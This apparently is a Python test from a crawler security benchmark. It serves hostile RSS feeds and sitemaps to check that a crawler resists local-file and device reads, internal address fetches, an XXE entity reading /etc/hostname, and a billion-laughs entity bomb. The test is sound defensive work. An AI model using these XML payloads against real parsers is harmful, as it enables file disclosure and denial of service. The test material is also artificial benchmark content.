"""An answer that calls itself a feed or a sitemap holds a path or an address of this machine, or entities that grow."""

from pathlib import Path

from benchmarks.attacks import Trial
from testbed.crawling import Crawl
from testbed.hostile import Connection, HostileWeb
from testbed.hostile.behaviours import article, links_to

SECRET = '<rss version="2.0"><channel><item><link>http://feeds.example/secret</link></item></channel></rss>'

GROWING = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
BOMB = f'<!DOCTYPE r [<!ENTITY a0 "{"http://feeds.example/inside" * 10}">{GROWING}]>'
FILE = '<!DOCTYPE r [<!ENTITY a9 SYSTEM "file:///etc/hostname">]>'
SITEMAP = "<urlset><url><loc>http://feeds.example/&a9;</loc></url></urlset>"


def attack(folder: Path, trial: Trial) -> str:
    """Local files, devices and addresses, entities of files and entities that grow, each as RSS; sitemaps; then a good feed."""
    folder.mkdir(parents=True, exist_ok=True)
    local = folder / "local.xml"
    local.write_text(SECRET, encoding="utf-8")
    bodies = {
        "/local": str(local), "/file": f"file://{local}", "/zero": "/dev/zero", "/stdin": "/dev/stdin",
        "/http": "http://feeds.example/inside", "/broken": "<rss><channel><item>", "/empty": "",
        "/bomb": f"{BOMB}<rss><channel><item><link>&a9;</link></item></channel></rss>",
        "/sitemap_file.xml": FILE + SITEMAP, "/sitemap_bomb.xml": BOMB + SITEMAP, "/sitemap_zero.xml": "/dev/zero",
        "/good": SECRET.replace("secret", "good.html"),
    }  # fmt: skip

    def feeds(asked: Connection) -> None:
        if asked.path in bodies:
            asked.answer(bodies[asked.path], Content_Type="application/rss+xml")
        else:
            asked.answer(article("首页", links_to(*bodies) if asked.path == "/" else ""))

    def robots(asked: Connection) -> None:
        asked.answer(
            "".join(f"Sitemap: http://feeds.example{path}\n" for path in bodies if path.startswith("/sitemap"))
        )

    with HostileWeb({"feeds.example": feeds}, {"feeds.example": robots}) as web:
        settings = {"FRONTIER_HOST_DELAY": 0, "DOWNLOAD_TIMEOUT": 5, "MEMUSAGE_LIMIT_MB": 1_000}
        crawl = Crawl(
            folder / "crawl", ["http://feeds.example/"], settings=settings, environment={"http_proxy": web.address}
        )
        crawl.run(60)
        paths = {seen.path for seen in web.asked("feeds.example")}
    if not set(bodies) <= paths or "/good.html" not in paths:
        return f"the crawl did not read all feeds (exit code {crawl.exit_code})"
    if {"/secret", "/inside"} & paths:
        return "a file or an address that an answer names was opened"
    if crawl.exit_code or crawl.errors:
        return f"exit code {crawl.exit_code}, {crawl.errors[:2]}"
    return "" if crawl.peak_memory < 400_000_000 else f"{crawl.peak_memory:,} bytes of memory"
